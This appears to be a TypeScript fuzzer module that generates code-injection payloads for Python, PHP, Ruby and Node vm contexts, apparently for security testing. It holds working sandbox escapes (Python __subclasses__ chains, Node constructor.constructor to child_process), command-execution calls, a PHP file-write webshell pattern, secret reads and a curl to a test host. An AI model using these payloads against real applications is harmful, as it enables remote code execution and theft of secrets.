import type { Random } from '../../lib/random.ts';
import type { Context, Grammar } from '../contract.ts';

/** How a language writes what an attacker wants, and how it leaves a string. */
interface Dialect {
  readonly language: string;
  /** Expressions that reach a canary wherever an expression may stand. */
  readonly goals: readonly (readonly [kind: string, make: (random: Random) => string])[];
  /** Joins texts. */
  readonly join: string;
  /** Makes any value a text. */
  text(expression: string): string;
  /** What a double quoted string evaluates, where the language does. */
  inString?(expression: string, random: Random): string;
}

/** A word of a command or a path; the oracles look at the call, not at what it says. */
function word(random: Random): string {
  const letters = random.times(2 + random.below(6), () =>
    String.fromCharCode(97 + random.below(26)),
  );
  return letters.join('');
}

function command(random: Random): string {
  return random.pick([
    'id',
    'whoami',
    'uname -a',
    `cat /etc/${word(random)}`,
    `ls /${word(random)}`,
    `curl http://${word(random)}.test/${word(random)}`,
    `touch /tmp/${word(random)}`,
  ]);
}

const python: Dialect = {
  language: 'python',
  join: '+',
  text: (expression) => `str(${expression})`,
  goals: [
    [
      'program',
      (random) => `__import__('os').${random.pick(['system', 'popen'])}('${command(random)}')`,
    ],
    [
      'subprocess',
      (random) =>
        `__import__('subprocess').${random.pick(['run', 'call', 'Popen', 'getoutput', 'check_output'])}('${command(random)}'${random.pick(['', ',shell=True'])})`.replace(
          /getoutput\((.*),shell=True\)/,
          'getoutput($1)',
        ),
    ],
    ['file', (random) => `open('/etc/${word(random)}').read()`],
    [
      'folder',
      (random) => `__import__('os').${random.pick(['listdir', 'scandir'])}('/${word(random)}')`,
    ],
    [
      'exec',
      (random) =>
        `${random.pick(['exec', 'eval'])}('__import__(\\x22os\\x22).system(\\x22${command(random)}\\x22)')`,
    ],
    [
      'globals',
      (random) =>
        `${random.pick(['globals()', 'discount.__globals__'])}['__builtins__']${random.pick(['', ''])}['__import__']('os').system('${command(random)}')`,
    ],
    [
      'subclasses',
      (random) =>
        `[c for c in ${random.pick(['()', '[]', '{}', "''", '1', 'True'])}.__class__.__mro__[-1].__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['system']('${command(random)}')`,
    ],
    [
      'lambda',
      (random) => `(lambda ${word(random)}_:__import__('os').system('${command(random)}'))(1)`,
    ],
    ['getattr', (random) => `getattr(__import__('os'),'system')('${command(random)}')`],
    [
      'socket',
      (random) =>
        `__import__('socket').create_connection(('${word(random)}.test',${1 + random.below(9999)}))`,
    ],
  ],
};

const php: Dialect = {
  language: 'php',
  join: '.',
  text: (expression) => `(${expression})`,
  inString: (expression, random) => random.pick([`\${${expression}}`, `{$\{${expression}}}`]),
  goals: [
    [
      'program',
      (random) =>
        `${random.pick(['system', 'passthru', 'exec', 'shell_exec'])}('${command(random)}')`,
    ],
    ['backticks', (random) => `\`${command(random)}\``],
    ['opened', (random) => `popen('${command(random)}','r')`],
    [
      'file',
      (random) =>
        `${random.pick(['file_get_contents', 'readfile', 'file', 'highlight_file'])}('/etc/${word(random)}')`,
    ],
    ['folder', (random) => `${random.pick(['scandir', 'glob', 'opendir'])}('/${word(random)}')`],
    ['write', (random) => `file_put_contents('${word(random)}.php','<?php ${word(random)}();')`],
    ['named', (random) => `('sys'.'tem')('${command(random)}')`],
    [
      'callback',
      (random) =>
        `${random.pick(["call_user_func('system','%')", "array_map('system',['%'])", "call_user_func_array('passthru',['%'])", "usort_('%')"]).replace("usort_('%')", "array_filter(['%'],'system')").replace('%', command(random))}`,
    ],
    [
      'eval',
      (random) => `eval('return system(\\x22${command(random)}\\x22);')`.replaceAll('\\x22', '"'),
    ],
    ['info', () => 'phpinfo()'],
    ['closure', (random) => `(function(){return system('${command(random)}');})()`],
    ['arrow', (random) => `(fn($${word(random)})=>$${'_'}??system('${command(random)}'))(1)`],
    ['reflection', (random) => `(new ReflectionFunction('system'))->invoke('${command(random)}')`],
  ],
};

const ruby: Dialect = {
  language: 'ruby',
  join: '+',
  text: (expression) => `(${expression}).to_s`,
  inString: (expression) => `#{${expression}}`,
  goals: [
    [
      'program',
      (random) =>
        `${random.pick(['system', 'exec', 'spawn', 'Kernel.system', 'Process.spawn'])}('${command(random)}')`,
    ],
    [
      'backticks',
      (random) =>
        random.pick([`\`${command(random)}\``, `%x(${command(random)})`, `%x|${command(random)}|`]),
    ],
    [
      'opened',
      (random) =>
        `${random.pick(['IO.popen', 'open'])}('${random.pick(['', '|'])}${command(random)}')`,
    ],
    [
      'file',
      (random) =>
        `${random.pick(['File.read', 'IO.read', 'File.readlines', 'File.open', 'IO.readlines'])}('/etc/${word(random)}')`,
    ],
    [
      'folder',
      (random) => `Dir.${random.pick(['entries', 'children', 'glob'])}('/${word(random)}')`,
    ],
    [
      'send',
      (random) =>
        `${random.pick(['Kernel', 'self', '1', '[]', 'Object'])}.${random.pick(['send', '__send__'])}(:system,'${command(random)}')`,
    ],
    ['method', (random) => `method(:system).call('${command(random)}')`],
    [
      'eval',
      (random) =>
        `${random.pick(['eval', 'instance_eval', 'Object.class_eval'])}('system(%q(${command(random)}))')`,
    ],
    ['constant', (random) => `Object.const_get(:Kernel).system('${command(random)}')`],
    ['environment', (random) => `ENV.${random.pick(['to_h', 'to_a', 'inspect', 'keys'])}`],
    ['lambda', (random) => `->(){system('${command(random)}')}.call`],
    ['begin', (random) => `begin;system('${command(random)}');end`],
    [
      'map',
      (random) => `['${command(random)}'].${random.pick(['map', 'each', 'select'])}{|x|system(x)}`,
    ],
  ],
};

/** What leads from a context of node:vm to the process. */
function outward(random: Random): string {
  const held = random.pick(['this', 'discount', 'config', 'discount.constructor']);
  const way = random.pick(['constructor.constructor', "constructor['constructor']"]);
  const text = random.pick(['return process', 'return this.process', 'return globalThis.process']);
  return held.startsWith('discount')
    ? `discount.constructor('${text}')()`
    : `${held}.${way}('${text}')()`;
}

const vm: Dialect = {
  language: 'vm',
  join: '+',
  text: (expression) => `(${expression})`,
  goals: [
    [
      'program',
      (random) =>
        `${outward(random)}.mainModule.require('child_process').${random.pick(['execSync', 'exec', 'spawnSync'])}('${command(random)}')`,
    ],
    [
      'file',
      (random) =>
        `${outward(random)}.mainModule.require('fs').${random.pick(['readFileSync', 'readdirSync', 'createReadStream'])}('/${word(random)}')`,
    ],
    [
      'binding',
      (random) => `${outward(random)}.binding('${random.pick(['fs', 'spawn_sync', 'natives'])}')`,
    ],
    [
      'end',
      (random) =>
        `${outward(random)}.${random.pick(['exit', 'abort', 'kill'])}(${random.below(99)})`,
    ],
    ['module', (random) => `${outward(random)}.getBuiltinModule('child_process')`],
    [
      'secret',
      (random) =>
        random.pick([
          'JSON.stringify(config)',
          'config.secret',
          "config['secret']",
          'Object.values(config)',
        ]),
    ],
    [
      'arrow',
      (random) =>
        `(()=>${outward(random)}.mainModule.require('child_process').execSync('${command(random)}'))()`,
    ],
    ['later', (random) => `Promise.resolve().then(()=>${outward(random)}.exit())`],
  ],
};

function codeGrammar(dialect: Dialect): Grammar {
  return {
    language: dialect.language,
    attack: (random, _oracle, context: Context) => {
      const [goal, make] = random.pick(dialect.goals);
      const expression = make(random);
      const quote = context.name.endsWith('single quotes') ? "'" : '"';
      const isString = context.name.startsWith('string');
      if (!isString) {
        const number = random.below(999);
        const way = random.pick([
          expression,
          `${dialect.text(String(number))}${dialect.join}${dialect.text(expression)}`,
          `[${number},${expression}]`,
        ]);
        return { kind: `${goal}/${way === expression ? 'alone' : 'joined'}`, values: [way] };
      }
      const isInner = quote === '"' && dialect.inString !== undefined && random.chance(70);
      if (isInner) {
        return {
          kind: `${goal}/in the string`,
          values: [word(random) + (dialect.inString?.(expression, random) ?? '')],
        };
      }
      const lead = random.pick(['', word(random)]);
      const value = `${lead}${quote}${dialect.join}${dialect.text(expression)}${dialect.join}${quote}`;
      return { kind: `${goal}/out of the string`, values: [value] };
    },
  };
}

/** Grammars of what applications evaluate. */
export const pythonGrammar = codeGrammar(python);
export const phpGrammar = codeGrammar(php);
export const rubyGrammar = codeGrammar(ruby);
export const vmGrammar = codeGrammar(vm);
